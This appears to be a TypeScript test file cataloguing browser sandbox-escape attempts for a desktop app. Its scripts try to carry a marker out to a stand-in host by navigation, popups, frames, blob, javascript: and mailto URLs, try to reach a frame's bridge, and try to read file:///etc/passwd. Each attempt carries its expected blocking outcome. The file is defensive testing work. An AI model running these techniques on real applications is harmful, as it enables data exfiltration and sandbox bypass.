/** Navigation of the page, new windows, frames. */
import { type EscapeClass, type Target } from './escape.ts';

const go =
  (address: (at: Target) => string) =>
  (at: Target): string =>
    `setTimeout(() => { location.href = ${JSON.stringify(address(at))} }, 0); await wait(120)`;
const form =
  (attributes: (at: Target) => Record<string, string>) =>
  (at: Target): string =>
    `const f = add('form', ${JSON.stringify(attributes(at))}); add('input', { name: 'x', value: '${at.needle}' ` +
    '}, f); f.submit(); await wait(120)';
const open =
  (address: (at: Target) => string, more = '') =>
  (at: Target): string =>
    `const w = window.open(${JSON.stringify(address(at))}${more}); for (let i = 0; w && !w.closed && i < 24; i ` +
    `+= 1) await wait(50); if (w && !w.closed) { try { return w.innerWidth > 0 && w.document ? 'out: it is open' ` +
    `: 'tried' } catch { return 'out: it is elsewhere' } } return 'closed'`;
const frame =
  (attributes: (at: Target) => Record<string, string>, tag = 'iframe') =>
  (at: Target): string =>
    `add('${tag}', ${JSON.stringify(attributes(at))}); await wait(120)`;

export const NAVIGATION: EscapeClass = {
  name: 'moving the page',
  entries: [
    { id: 'location', tries: 'location.href', outcome: 'recorded', control: true, script: go((at) => at.http) },
    {
      id: 'location-assign',
      tries: 'location.assign',
      outcome: 'recorded',
      control: true,
      script: (at) => `setTimeout(() => location.assign('${at.http}'), 0); await wait(120)`,
    },
    {
      id: 'location-replace',
      tries: 'location.replace',
      outcome: 'recorded',
      control: true,
      script: (at) => `setTimeout(() => location.replace('${at.http}'), 0); await wait(120)`,
    },
    {
      id: 'navigation-api',
      tries: 'navigation.navigate',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `setTimeout(() => { const moved = navigation.navigate('${at.http}'); moved.committed.catch(() => {}); ` +
        'moved.finished.catch(() => {}) }, 0); await wait(120)',
    },
    {
      id: 'link',
      tries: 'a link',
      outcome: 'recorded',
      control: true,
      script: (at) => `add('a', { href: '${at.http}' }).click(); await wait(120)`,
    },
    {
      id: 'link-hidden',
      tries: 'a link in a tree of its own, where no listener of the page hears the click',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const a = document.createElement('a'); a.href = '${at.http}'; a.dispatchEvent(new MouseEvent('click')); ` +
        'await wait(120)',
    },
    {
      id: 'link-shadow',
      tries: 'a link in a closed shadow tree',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const h = add('div').attachShadow({ mode: 'closed' }); const a = document.createElement('a'); a.href = ` +
        `'${at.http}'; h.append(a); a.click(); await wait(120)`,
    },
    {
      id: 'link-svg',
      tries: 'a link inside a drawing',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const a = ` +
        `document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', '${at.http}'); ` +
        `s.append(a); document.body.append(s); a.dispatchEvent(new MouseEvent('click', { bubbles: true, ` +
        'cancelable: true })); await wait(120)',
    },
    {
      id: 'area',
      tries: 'an area of a picture',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const m = add('map', { name: 'm' }); const a = document.createElement('area'); a.href = '${at.http}'; ` +
        'm.append(a); a.click(); await wait(120)',
    },
    {
      id: 'form-get',
      tries: 'a form by GET',
      outcome: 'recorded',
      control: true,
      script: form((at) => ({ action: at.http })),
    },
    {
      id: 'form-post',
      tries: 'a form by POST',
      outcome: 'recorded',
      control: true,
      script: form((at) => ({ action: at.http, method: 'post', enctype: 'text/plain' })),
    },
    {
      id: 'form-button',
      tries: 'a button with an action of its own',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const f = add('form'); const b = add('button', { formaction: '${at.http}' }, f); b.click(); await wait(120)`,
    },
    {
      id: 'meta-refresh',
      tries: 'a refresh by markup',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `add('meta', { 'http-equiv': 'refresh', content: '0; url=${at.http}' }, document.head); await wait(300)`,
    },
    {
      id: 'base',
      tries: 'another base for all addresses',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `add('base', { href: '${at.http.slice(0, at.http.lastIndexOf('/') + 1)}' }, document.head); new ` +
        `Image().src = '${at.needle}.png'; await wait(60)`,
    },
    {
      id: 'javascript-address',
      tries: 'a javascript: address',
      outcome: 'recorded',
      control: true,
      records: [
        ['script-blocked', 'script-src-elem: inline'],
        ['navigation-blocked', 'javascript:'],
      ],
      script: () =>
        `delete window.ranByAddress; add('a', { href: 'javascript:void(window.ranByAddress = 1)' }).click(); ` +
        `setTimeout(() => { location.href = 'javascript:void(window.ranByAddress = 1)' }); await wait(120); ` +
        `return window.ranByAddress ? 'out: it ran' : 'it did not run'`,
    },
    {
      id: 'data-address',
      tries: 'a data: address',
      outcome: 'silent',
      why: 'the browser refuses it in the renderer, before anything could notice',
      script: go((at) => `data:text/html,<img src=${at.http}>`),
    },
    {
      id: 'blob-address',
      tries: "a blob: address with a page of one's own",
      outcome: 'recorded',
      records: [
        ['navigation-blocked', 'blob:'],
        ['navigation-blocked', 'desk.cleandesk.internal'],
      ],
      script: (at) =>
        `setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<img src=${at.http}><meta ` +
        `http-equiv=refresh content="0; url=${at.http}">'], { type: 'text/html' })) }, 0); await wait(120)`,
    },
    {
      id: 'blank-address',
      tries: 'about:blank',
      outcome: 'recorded',
      records: [['navigation-blocked', 'about:']],
      script: go(() => 'about:blank'),
    },
    {
      id: 'file-address',
      tries: 'a file of this machine',
      outcome: 'recorded',
      records: [['request-blocked', 'connect-src: file']],
      script: (at) =>
        `setTimeout(() => { location.href = 'file:///etc/passwd' }, 0); add('iframe', { src: ` +
        `'file:///etc/passwd' }); await fetch('file:///etc/hosts').catch(() => 0); await wait(120); return ` +
        `location.protocol === 'file:' ? 'out: it is there' : 'still here ${at.needle.length}'`,
    },
    {
      id: 'chrome-address',
      tries: "the browser's own pages",
      outcome: 'silent',
      why: 'the browser refuses it in the renderer, before anything could notice',
      script: () =>
        `setTimeout(() => { location.href = 'chrome://settings/' }, 0); await wait(120); return ` +
        `location.protocol === 'chrome:' ? 'out: it is there' : 'still here'`,
    },
    {
      id: 'view-source',
      tries: 'view-source:',
      outcome: 'silent',
      why: 'the browser refuses it in the renderer, before anything could notice',
      script: () =>
        `setTimeout(() => { location.href = 'view-source:' + location.href }, 0); await wait(120); return ` +
        `location.protocol === 'view-source:' ? 'out: it is there' : 'still here'`,
    },
    {
      id: 'filesystem-address',
      tries: 'filesystem:',
      outcome: 'silent',
      why: 'the browser refuses it in the renderer, before anything could notice',
      script: () =>
        `setTimeout(() => { location.href = 'filesystem:' + location.origin + '/temporary/x' }, 0); await ` +
        `wait(120); return location.protocol === 'filesystem:' ? 'out: it is there' : 'still here'`,
    },
    {
      id: 'devtools-address',
      tries: 'devtools:',
      outcome: 'silent',
      why: 'the browser refuses it in the renderer, before anything could notice',
      script: () =>
        `setTimeout(() => { location.href = 'devtools://devtools/bundled/inspector.html' }, 0); await wait(120); ` +
        `return location.protocol === 'devtools:' ? 'out: it is there' : 'still here'`,
    },
    {
      id: 'history',
      tries: 'history with an address of another host',
      outcome: 'silent',
      script: (at) => `history.pushState({}, '', '${at.http}')`,
      why: 'an address of another origin throws SecurityError',
    },
    {
      id: 'history-back',
      tries: 'going back to what was there before',
      outcome: 'silent',
      script: () =>
        'const before = location.href; history.back(); history.go(-5); await wait(150); return location.href === ' +
        `before ? 'still here' : 'out: elsewhere'`,
      why: 'the history is emptied at each reset',
    },
    {
      id: 'document-domain',
      tries: 'a wider domain for the document',
      outcome: 'silent',
      script: () =>
        `document.domain = 'cleandesk.internal'; return document.domain === 'cleandesk.internal' ? 'out: ` +
        `widened' : 'unchanged'`,
      why: 'an isolated origin has no wider one',
    },
    {
      id: 'document-open',
      tries: 'a document written anew',
      outcome: 'recorded',
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: (at) => `document.write('<img src=${at.http}>'); return 'out: written'`,
    },
  ],
};

export const POPUPS: EscapeClass = {
  name: 'new windows',
  looks: true,
  entries: [
    { id: 'open', tries: 'window.open', outcome: 'recorded', control: true, script: open((at) => at.http) },
    {
      id: 'open-features',
      tries: 'a small window beside the screen',
      outcome: 'recorded',
      control: true,
      script: open((at) => at.http, `, 'x', 'popup,width=1,height=1,left=9999'`),
    },
    {
      id: 'open-noopener',
      tries: 'a window that does not know where it came from',
      outcome: 'recorded',
      control: true,
      script: open((at) => at.http, `, '_blank', 'noopener,noreferrer'`),
    },
    {
      id: 'open-blank',
      tries: 'an empty window to write into',
      outcome: 'recorded',
      control: true,
      records: [['popup-blocked', 'about:']],
      script: open(() => ''),
    },
    {
      id: 'open-data',
      tries: 'a window on a data: address',
      outcome: 'recorded',
      records: [['popup-blocked', 'data:']],
      script: open((at) => `data:text/html,<img src=${at.http}>`),
    },
    {
      id: 'open-blob',
      tries: "a window on a page of one's own",
      outcome: 'recorded',
      control: true,
      records: [['popup-blocked', 'blob:']],
      script: (at) =>
        `const w = window.open(URL.createObjectURL(new Blob(['<img src=${at.http}>'], { type: 'text/html' }))); ` +
        `await wait(400); return 'tried'`,
    },
    {
      id: 'open-self',
      tries: 'a window on the desk itself, with a second bridge',
      outcome: 'recorded',
      records: [['popup-blocked', 'desk.cleandesk.internal']],
      script: () =>
        'const w = window.open(location.href); for (let i = 0; w && !w.closed && i < 24; i += 1) await wait(50); ' +
        `try { return w && !w.closed && typeof w.cleandesk === 'object' ? 'out: it has a bridge' : 'closed' } ` +
        `catch { return 'closed' }`,
    },
    {
      id: 'open-name',
      tries: 'words as the name of a window',
      outcome: 'recorded',
      control: true,
      script: open((at) => at.http, `, 'carried-out'`),
    },
    {
      id: 'link-window',
      tries: 'a link in a new window',
      outcome: 'recorded',
      control: true,
      script: (at) => `add('a', { href: '${at.http}', target: '_blank' }).click(); await wait(150)`,
    },
    {
      id: 'link-window-hidden',
      tries: 'a link in a new window that no listener hears',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const a = document.createElement('a'); a.href = '${at.http}'; a.target = '_blank'; a.dispatchEvent(new ` +
        `MouseEvent('click')); await wait(150)`,
    },
    {
      id: 'link-modifier',
      tries: 'a link with Ctrl, in the background',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const a = add('a', { href: '${at.http}' }); a.dispatchEvent(new MouseEvent('click', { bubbles: true, ` +
        'cancelable: true, ctrlKey: true })); await wait(150)',
    },
    {
      id: 'form-window',
      tries: 'a form in a new window',
      outcome: 'recorded',
      control: true,
      script: form((at) => ({ action: at.http, target: '_blank', method: 'post' })),
    },
    {
      id: 'picture-in-picture',
      tries: 'a window that floats above all others',
      outcome: 'absent',
      script: () =>
        `if (!isThere(window, 'documentPictureInPicture')) return 'absent'; await ` +
        `documentPictureInPicture.requestWindow(); return 'out: it floats'`,
    },
    {
      id: 'video-in-picture',
      tries: 'a video of the page that floats above all others',
      outcome: 'recorded',
      records: [['permission-denied', 'picture-in-picture']],
      script: () =>
        `const c = document.createElement('canvas'); c.getContext('2d').fillRect(0, 0, 9, 9); const v = ` +
        `add('video', { muted: '' }); v.srcObject = c.captureStream(5); await v.play(); await ` +
        `v.requestPictureInPicture(); return 'out: it floats'`,
    },
    {
      id: 'presentation',
      tries: 'the page on another screen',
      outcome: 'silent',
      why: 'no other screen is looked for: the part that would is switched off',
      script: (at) =>
        `if (!isThere(window, 'PresentationRequest')) return 'absent'; await new ` +
        `PresentationRequest(['${at.https}']).start(); return 'out: begun'`,
    },
    {
      id: 'remote-playback',
      tries: 'a video on another device',
      outcome: 'silent',
      why: 'no other device is looked for: the part that would is switched off',
      script: () =>
        `if (!isThere(HTMLMediaElement.prototype, 'remote')) return 'absent'; await ` +
        `add('video').remote.prompt(); return 'out: begun'`,
    },
  ],
};

export const FRAMES: EscapeClass = {
  name: 'frames',
  entries: [
    { id: 'frame', tries: 'a frame', outcome: 'recorded', control: true, script: frame((at) => ({ src: at.http })) },
    {
      id: 'frame-sandbox',
      tries: 'a frame that may do everything',
      outcome: 'recorded',
      control: true,
      script: frame((at) => ({
        src: at.http,
        allow: 'camera *; clipboard-write *',
        sandbox: 'allow-scripts allow-popups allow-top-navigation allow-forms',
      })),
    },
    {
      id: 'frame-credentialless',
      tries: 'a frame without credentials',
      outcome: 'recorded',
      control: true,
      script: frame((at) => ({ src: at.http, credentialless: '' })),
    },
    {
      id: 'frame-srcdoc',
      tries: 'a frame with its document inside',
      outcome: 'recorded',
      control: true,
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: (at) => `add('iframe', { srcdoc: '<img src=${at.http}>' }); await wait(120)`,
    },
    {
      id: 'frame-data',
      tries: 'a frame on a data: address',
      outcome: 'recorded',
      control: true,
      records: [['navigation-blocked', 'frame-src: ']],
      script: frame((at) => ({ src: `data:text/html,<img src=${at.http}>` })),
    },
    {
      id: 'frame-blob',
      tries: "a frame on a page of one's own",
      outcome: 'recorded',
      control: true,
      records: [
        ['navigation-blocked', 'frame-src: blob'],
        ['navigation-blocked', 'frame-src: blob:'],
      ],
      script: (at) =>
        `add('iframe', { src: URL.createObjectURL(new Blob(['<img src=${at.http}>'], { type: 'text/html' })) }); ` +
        'await wait(120)',
    },
    {
      id: 'frame-javascript',
      tries: 'a frame on a javascript: address',
      outcome: 'recorded',
      control: true,
      records: [['script-blocked', 'script-src-elem: inline']],
      script: () =>
        `delete window.ranInFrame; add('iframe', { src: 'javascript:void(parent.ranInFrame = 1)' }); await ` +
        `wait(120); return window.ranInFrame ? 'out: it ran' : 'it did not run'`,
    },
    {
      id: 'frame-empty',
      tries: 'the untouched built-ins of an empty frame',
      outcome: 'recorded',
      control: true,
      records: [
        ['bridge-refused', 'reportBlocked'],
        ['navigation-blocked', 'frame-in-the-page'],
      ],
      script: (at) => `const f = add('iframe'); await f.contentWindow.fetch('${at.http}', { mode: 'no-cors' })`,
    },
    {
      id: 'frame-bridge',
      tries: 'the bridge of an empty frame',
      outcome: 'recorded',
      records: [['bridge-refused', 'listConversations']],
      script: () =>
        `const f = add('iframe'); await wait(80); const inner = f.contentWindow?.cleandesk; if (!inner) return ` +
        `'no bridge there'; return await inner.listConversations({}).then(() => 'out: answered', () => 'refused')`,
    },
    {
      id: 'frame-print',
      tries: 'the printing of an empty frame',
      outcome: 'recorded',
      records: [['print-attempt', 'window.print']],
      script: () => `const f = add('iframe'); await wait(20); f.contentWindow.print()`,
    },
    {
      id: 'fenced-frame',
      tries: 'a fenced frame',
      outcome: 'silent',
      why: 'it loads only what an auction has chosen, and there is none',
      script: (at) =>
        `if (!isThere(window, 'HTMLFencedFrameElement')) return 'absent'; const f = add('fencedframe'); f.config ` +
        `= new FencedFrameConfig('${at.https}'); await wait(120); return 'tried'`,
    },
    {
      id: 'portal',
      tries: 'a portal',
      outcome: 'absent',
      script: (at) =>
        `if (!isThere(window, 'HTMLPortalElement')) return 'absent'; add('portal', { src: '${at.https}' })`,
    },
    {
      id: 'frameset',
      tries: 'a frameset',
      outcome: 'recorded',
      script: (at) =>
        `const s = document.createElement('frameset'); const f = document.createElement('frame'); f.src = ` +
        `'${at.http}'; s.append(f); document.documentElement.append(leave(s)); await wait(120)`,
    },
    {
      id: 'object-page',
      tries: 'a page as an object',
      outcome: 'recorded',
      control: true,
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: frame((at) => ({ data: `${at.http}.html`, type: 'text/html' }), 'object'),
    },
  ],
};

const MAIL = (at: Target): string => `mailto:x@escape.example?body=${at.needle}`;
const byMove = [['navigation-blocked', 'mailto:']] as const;
/** Words in an address that another program opens. */
export const PROGRAMS: EscapeClass = {
  name: 'other programs',
  looks: true,
  entries: [
    {
      id: 'mail-location',
      tries: 'a mail, by location',
      outcome: 'recorded',
      control: true,
      records: byMove,
      script: go(MAIL),
    },
    {
      id: 'mail-link',
      tries: 'a mail, by a link',
      outcome: 'recorded',
      control: true,
      records: byMove,
      script: (at) => `add('a', { href: '${MAIL(at)}' }).click(); await wait(120)`,
    },
    {
      id: 'mail-link-hidden',
      tries: 'a mail, by a link that no listener hears',
      outcome: 'recorded',
      control: true,
      records: byMove,
      script: (at) =>
        `const a = document.createElement('a'); a.href = '${MAIL(at)}'; a.dispatchEvent(new ` +
        `MouseEvent('click')); await wait(120)`,
    },
    {
      id: 'mail-window',
      tries: 'a mail, in a new window',
      outcome: 'recorded',
      control: true,
      records: [
        ['popup-blocked', 'mailto:'],
        ['popup-blocked', 'about:'],
      ],
      script: open(MAIL),
    },
    {
      id: 'mail-frame',
      tries: 'a mail, in a frame',
      outcome: 'recorded',
      control: true,
      records: [
        ['navigation-blocked', 'mailto:'],
        ['navigation-blocked', 'frame-src: '],
      ],
      script: frame((at) => ({ src: MAIL(at) })),
    },
    {
      id: 'mail-form',
      tries: 'a mail, by a form',
      outcome: 'recorded',
      records: [
        ['navigation-blocked', 'form-action: mailto'],
        ['navigation-blocked', 'form-action: mailto:'],
      ],
      script: form((at) => ({ action: MAIL(at), method: 'post', enctype: 'text/plain' })),
    },
    {
      id: 'mail-refresh',
      tries: 'a mail, by a refresh',
      outcome: 'recorded',
      records: byMove,
      script: (at) =>
        `add('meta', { 'http-equiv': 'refresh', content: '0; url=${MAIL(at)}' }, document.head); await wait(200)`,
    },
    {
      id: 'news',
      tries: 'a newsgroup',
      outcome: 'recorded',
      records: [['navigation-blocked', 'news:']],
      script: go((at) => `news:${at.needle}`),
    },
    {
      id: 'telephone',
      tries: 'a telephone call',
      outcome: 'recorded',
      records: [['navigation-blocked', 'tel:']],
      script: go(() => 'tel:+15550100'),
    },
    {
      id: 'office',
      tries: 'a document in an office program',
      outcome: 'recorded',
      records: [['navigation-blocked', 'ms-word:']],
      script: go((at) => `ms-word:ofe|u|${at.http}`),
    },
    {
      id: 'app-link',
      tries: 'an application by a scheme of its own',
      outcome: 'recorded',
      records: [['navigation-blocked', 'escape.example']],
      script: (at) =>
        `const a = document.createElement('a'); a.href = 'zoommtg://escape.example/join?x=${at.needle}'; ` +
        `a.dispatchEvent(new MouseEvent('click')); await wait(120)`,
    },
    {
      id: 'share-folder',
      tries: 'a folder of another machine',
      outcome: 'silent',
      why: 'the browser refuses it in the renderer, before anything could notice',
      script: go((at) => `file://escape.example/${at.needle}`),
    },
  ],
};
